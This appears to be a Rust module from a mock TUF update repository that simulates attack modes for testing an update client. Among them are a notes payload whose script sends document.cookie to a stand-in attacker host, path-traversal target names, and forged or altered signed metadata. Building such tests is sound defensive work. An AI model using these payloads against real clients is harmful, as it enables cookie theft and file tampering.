//! Attack modes: one for each adversarial case of `shared/update-security.md`.
//!
//! Switching a mode first signs the honest repository anew (fresh versions, so that a
//! client that trusted an attack's metadata is not stuck once the attack ends), then
//! builds the attack's overlay. Modes that change bytes in flight (endless, oversize,
//! slow, substituted, changed between ranges) are applied by the service as it streams.

use std::collections::HashMap;

use anyhow::Context;
use serde::{Deserialize, Serialize};
use tough::schema::{RoleType, Signed, Target, Timestamp};

use crate::keys::{Role, SigningKey};
use crate::release::ScriptDocument;
use crate::repo::{Content, Repo, SignOptions, expires_in, pretty};

/// The attack the mock plays, `POST /__admin/attack` (`{"mode": "...", ...}`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "mode", rename_all = "snake_case", deny_unknown_fields)]
pub enum Attack {
    #[default]
    None,
    /// 1. Rollback: the first timestamp ever signed is served again.
    OldTimestamp,
    /// 1. Rollback: a new, validly signed timestamp names the first snapshot.
    OldSnapshot,
    /// 2. Freeze: `role` (timestamp, snapshot or targets) is signed with an expiry one
    ///    second in the past.
    ExpiredMetadata { role: Role },
    /// 3. Mix-and-match: `role` (snapshot or targets) is served with the version its parent
    ///    names but other content (validly signed), so hash and content disagree.
    MixAndMatch { role: Role },
    /// 4. Endless data: `timestamp.json` never ends.
    EndlessMetadata,
    /// 4. Endless data: packages are served longer than their signed length.
    OversizePackage,
    /// 5. Slow retrieval: every file is served one byte every `interval_ms`.
    SlowRetrieval {
        #[serde(default = "default_interval")]
        interval_ms: u64,
    },
    /// 6. Substituted payload: packages have their signed length but other bytes.
    SubstitutedPackage,
    /// 6. Answers to `Range` requests come from a changed file (same length).
    ChangedBetweenRanges,
    /// 7. A new root asks two timestamp signatures; the timestamp carries one key's
    ///    signature twice, under the same key id.
    DuplicateSignature,
    /// 7. A new root lists the timestamp key twice under two key ids (threshold two); the
    ///    timestamp is signed once by that key, under both ids.
    DuplicateKey,
    /// 7. A new root signed only by a new root key, not by the old one.
    RootNotSignedByOld,
    /// 8. Path traversal: validly signed targets named `../../…` and percent-encoded
    ///    forms, announcing a higher version.
    PathTraversal,
    /// 10. The latest release's notes are served but no longer listed in signed metadata.
    UnsignedNotes,
    /// 10. The latest release's notes are served with other text than the signed one.
    AlteredNotes,
    /// 10. The latest release's notes, validly signed, carry HTML and a script.
    HostileNotes,
    /// 10. The latest release's scripts are served but no longer listed in signed metadata,
    ///     and an extra unlisted script is served beside them.
    UnsignedScript,
    /// 10. The latest release's first script is served with other content than the signed
    ///     one.
    AlteredScript,
}

fn default_interval() -> u64 {
    2000
}

/// Notes carrying active content.
pub const HOSTILE_NOTES: &str = "Lisez-moi\n<script>fetch('https://attaquant.invalid/?c='+document.cookie)</script>\n<img src=x onerror=alert(1)>\n<a href=\"javascript:alert(1)\">Cliquez ici</a>\n";

impl Attack {
    pub fn is_none(&self) -> bool {
        *self == Attack::None
    }
}

/// Signs the honest repository anew, then sets `attack` with its overlay.
pub async fn set(repo: &mut Repo, attack: Attack) -> anyhow::Result<()> {
    repo.overlay.clear();
    repo.attack = Attack::None;
    repo.sign_honest().await?;
    match &attack {
        Attack::None
        | Attack::EndlessMetadata
        | Attack::OversizePackage
        | Attack::SlowRetrieval { .. }
        | Attack::SubstitutedPackage
        | Attack::ChangedBetweenRanges => {}
        Attack::OldTimestamp => {
            let first = repo.timestamps.first().cloned().context("no timestamp")?;
            repo.overlay
                .insert("metadata/timestamp.json".into(), Content::Bytes(first));
        }
        Attack::OldSnapshot => {
            let (v, bytes) = repo.snapshots.first().cloned().context("no snapshot")?;
            let version = repo.fresh_version();
            let mut ts = Timestamp::new(
                "1.0.0".into(),
                std::num::NonZeroU64::MIN.saturating_add(version - 1),
                expires_in(3600)?,
            );
            ts.meta
                .insert("snapshot.json".into(), Repo::metafile(&bytes, v));
            let signed = repo.sign_role(ts, Role::Timestamp).await?;
            repo.overlay.insert(
                "metadata/timestamp.json".into(),
                Content::Bytes(pretty(&signed)?),
            );
        }
        Attack::ExpiredMetadata { role } => {
            anyhow::ensure!(*role != Role::Root, "root expiry is not an attack mode");
            let entries = repo.target_entries();
            let mut options = SignOptions::default();
            options.expires.insert(*role, expires_in(-1)?);
            let (v, meta) = repo.sign_meta(&entries, options).await?;
            repo.overlay_meta(v, meta, &[Role::Targets, Role::Snapshot, Role::Timestamp]);
        }
        Attack::MixAndMatch { role } => {
            anyhow::ensure!(
                matches!(role, Role::Snapshot | Role::Targets),
                "mix-and-match applies to snapshot or targets"
            );
            // Same version as the honest metadata, other content.
            let mut entries = repo.target_entries();
            let (_, target) = entries
                .first()
                .cloned()
                .context("no target to duplicate: publish a release first")?;
            entries.push(("iea-extra.lisez-moi.txt".into(), target));
            let options = SignOptions {
                version: Some(repo.versions.timestamp),
                ..Default::default()
            };
            let (v, meta) = repo.sign_meta(&entries, options).await?;
            repo.overlay_meta(v, meta, &[*role]);
        }
        Attack::DuplicateSignature => {
            let extra = SigningKey::generate()?;
            let mut root = repo.root_for(&repo.keys.clone(), repo.versions.root + 1)?;
            root.keys
                .insert(extra.keyid().clone(), extra.public().clone());
            if let Some(rk) = root.roles.get_mut(&RoleType::Timestamp) {
                rk.keyids.push(extra.keyid().clone());
                rk.threshold = std::num::NonZeroU64::MIN.saturating_add(1);
            }
            let signed_root = repo
                .sign_root(root, &[repo.keys.get(Role::Root).clone()])
                .await?;
            let mut ts = repo.timestamp_signed()?;
            ts.signed.version = ts.signed.version.saturating_add(1);
            let mut ts = repo.sign_role(ts.signed, Role::Timestamp).await?;
            let sig = ts
                .signatures
                .first()
                .cloned()
                .context("unsigned timestamp")?;
            ts.signatures.push(sig);
            overlay_root_and_timestamp(repo, &signed_root, &ts)?;
        }
        Attack::DuplicateKey => {
            let ts_key = repo.keys.get(Role::Timestamp).clone();
            let mut twin = ts_key.public().clone();
            if let tough::schema::key::Key::Ed25519 { _extra, .. } = &mut twin {
                _extra.insert("x-iea-twin".into(), serde_json::Value::Bool(true));
            }
            let twin_id = twin
                .key_id()
                .map_err(|e| anyhow::anyhow!("twin key id: {e}"))?;
            let mut root = repo.root_for(&repo.keys.clone(), repo.versions.root + 1)?;
            root.keys.insert(twin_id.clone(), twin);
            if let Some(rk) = root.roles.get_mut(&RoleType::Timestamp) {
                rk.keyids.push(twin_id.clone());
                rk.threshold = std::num::NonZeroU64::MIN.saturating_add(1);
            }
            let signed_root = repo
                .sign_root(root, &[repo.keys.get(Role::Root).clone()])
                .await?;
            let mut ts = repo.timestamp_signed()?;
            ts.signed.version = ts.signed.version.saturating_add(1);
            let mut ts = repo.sign_role(ts.signed, Role::Timestamp).await?;
            let mut sig = ts
                .signatures
                .first()
                .cloned()
                .context("unsigned timestamp")?;
            sig.keyid = twin_id;
            ts.signatures.push(sig);
            overlay_root_and_timestamp(repo, &signed_root, &ts)?;
        }
        Attack::RootNotSignedByOld => {
            let mut keys = repo.keys.clone();
            let new_root_key = SigningKey::generate()?;
            keys.0.insert(Role::Root, new_root_key.clone());
            let root = repo.root_for(&keys, repo.versions.root + 1)?;
            let signed_root = repo.sign_root(root, &[new_root_key]).await?;
            repo.overlay.insert(
                format!("metadata/{}.root.json", repo.versions.root + 1),
                Content::Bytes(pretty(&signed_root)?),
            );
        }
        Attack::PathTraversal => {
            let mut entries = repo.target_entries();
            let evil = b"#!/bin/sh\necho pwned > /tmp/iea-pwned\n".to_vec();
            let names = [
                "../../iea-9.99.99.tar",
                "..%2F..%2Fiea-9.99.99.tar",
                "%2e%2e/%2e%2e/iea-9.99.98.tar",
                "/etc/iea-9.99.97.tar",
                "iea-9.99.96.tar/../../../evil",
            ];
            for name in names {
                let target = loose_target(&evil, "package", "9.99.99");
                let file = Repo::consistent_name(name, &target);
                let content = repo.write_loose_target(&file, &evil).await?;
                repo.overlay.insert(format!("targets/{file}"), content);
                entries.push((name.to_owned(), target));
            }
            let (v, meta) = repo.sign_meta(&entries, SignOptions::default()).await?;
            repo.overlay_meta(v, meta, &[Role::Targets, Role::Snapshot, Role::Timestamp]);
        }
        Attack::UnsignedNotes | Attack::HostileNotes | Attack::UnsignedScript => {
            let latest = repo.latest_release().cloned().context("no release")?;
            let mut entries = repo.target_entries();
            match &attack {
                Attack::UnsignedNotes => {
                    let name = latest.notes_name();
                    if let Some((path, target)) = repo.target_path(&name) {
                        entries.retain(|(n, _)| *n != name);
                        let len = target.length;
                        // Served at the plain name and at its former consistent name.
                        for file in [name.clone(), Repo::consistent_name(&name, &target)] {
                            repo.overlay.insert(
                                format!("targets/{file}"),
                                Content::File {
                                    path: path.clone(),
                                    len,
                                },
                            );
                        }
                    }
                }
                Attack::HostileNotes => {
                    let name = latest.notes_name();
                    let bytes = HOSTILE_NOTES.as_bytes().to_vec();
                    let target = loose_target(&bytes, "notes", &latest.version.to_string());
                    let file = Repo::consistent_name(&name, &target);
                    let content = repo.write_loose_target(&file, &bytes).await?;
                    repo.overlay.insert(format!("targets/{file}"), content);
                    entries.retain(|(n, _)| *n != name);
                    entries.push((name, target));
                }
                _ => {
                    let prefix = format!("iea-{}.script-", latest.version);
                    entries.retain(|(n, _)| !n.starts_with(&prefix));
                    for (order, _) in latest.script_documents() {
                        let name = latest.script_name(order);
                        if let Some((path, target)) = repo.target_path(&name) {
                            for file in [name.clone(), Repo::consistent_name(&name, &target)] {
                                repo.overlay.insert(
                                    format!("targets/{file}"),
                                    Content::File {
                                        path: path.clone(),
                                        len: target.length,
                                    },
                                );
                            }
                        }
                    }
                    let extra = ScriptDocument {
                        version: latest.version.to_string(),
                        order: 9,
                        description: "Script non signé".into(),
                        set: [("piratage".to_owned(), "oui".to_owned())].into(),
                        remove: vec![],
                    };
                    let bytes = serde_json::to_vec_pretty(&extra)?;
                    let name = latest.script_name(9);
                    let target = loose_target(&bytes, "script", &latest.version.to_string());
                    for file in [name.clone(), Repo::consistent_name(&name, &target)] {
                        let content = repo.write_loose_target(&file, &bytes).await?;
                        repo.overlay.insert(format!("targets/{file}"), content);
                    }
                }
            }
            let (v, meta) = repo.sign_meta(&entries, SignOptions::default()).await?;
            repo.overlay_meta(v, meta, &[Role::Targets, Role::Snapshot, Role::Timestamp]);
        }
        Attack::AlteredNotes | Attack::AlteredScript => {
            let latest = repo.latest_release().cloned().context("no release")?;
            let name = if attack == Attack::AlteredNotes {
                latest.notes_name()
            } else {
                latest.script_name(1)
            };
            let (path, target) = repo
                .target_path(&name)
                .with_context(|| format!("{name} is not published"))?;
            let mut bytes = tokio::fs::read(&path).await?;
            if attack == Attack::AlteredNotes {
                bytes.extend_from_slice(
                    "\nAppelez le 08 99 00 00 00 pour activer votre licence.\n".as_bytes(),
                );
            } else {
                let mut doc: ScriptDocument = serde_json::from_slice(&bytes)?;
                doc.set.insert("piratage".into(), "oui".into());
                bytes = serde_json::to_vec_pretty(&doc)?;
            }
            let file = Repo::consistent_name(&name, &target);
            let content = repo.write_loose_target(&file, &bytes).await?;
            repo.overlay.insert(format!("targets/{file}"), content);
        }
    }
    tracing::info!(?attack, "attack mode set");
    repo.attack = attack;
    Ok(())
}

fn overlay_root_and_timestamp(
    repo: &mut Repo,
    root: &Signed<tough::schema::Root>,
    ts: &Signed<Timestamp>,
) -> anyhow::Result<()> {
    repo.overlay.insert(
        format!("metadata/{}.root.json", root.signed.version),
        Content::Bytes(pretty(root)?),
    );
    repo.overlay.insert(
        "metadata/timestamp.json".into(),
        Content::Bytes(pretty(ts)?),
    );
    Ok(())
}

fn loose_target(bytes: &[u8], kind: &str, version: &str) -> Target {
    let mut custom = HashMap::new();
    custom.insert("kind".to_owned(), serde_json::Value::from(kind));
    custom.insert("version".to_owned(), serde_json::Value::from(version));
    Target {
        length: bytes.len() as u64,
        hashes: tough::schema::Hashes {
            sha256: Repo::decoded(crate::repo::sha256(bytes)),
            _extra: HashMap::new(),
        },
        custom,
        _extra: HashMap::new(),
    }
}
